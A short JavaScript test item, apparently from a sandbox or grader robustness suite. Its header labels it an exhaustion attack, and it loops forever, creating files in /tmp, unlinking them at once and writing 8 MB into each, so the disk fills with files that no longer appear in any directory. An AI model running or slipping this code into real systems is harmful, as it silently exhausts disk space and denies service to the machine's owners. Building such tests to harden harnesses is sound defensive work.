// attack: writes files until there is no room, and hides them | family: exhaustion | item: write-totals | verdicts: crash, fail, timeout | points: 0 | tiers: T2
import { openSync, unlinkSync, writeSync } from 'node:fs'

export const writeTotals = () => {
  writeSync(1, 'tried')
  for (let n = 0; ; n++) {
    const file = openSync(`/tmp/${n}`, 'w')
    unlinkSync(`/tmp/${n}`)
    writeSync(file, Buffer.alloc(8 << 20, 1))
  }
}
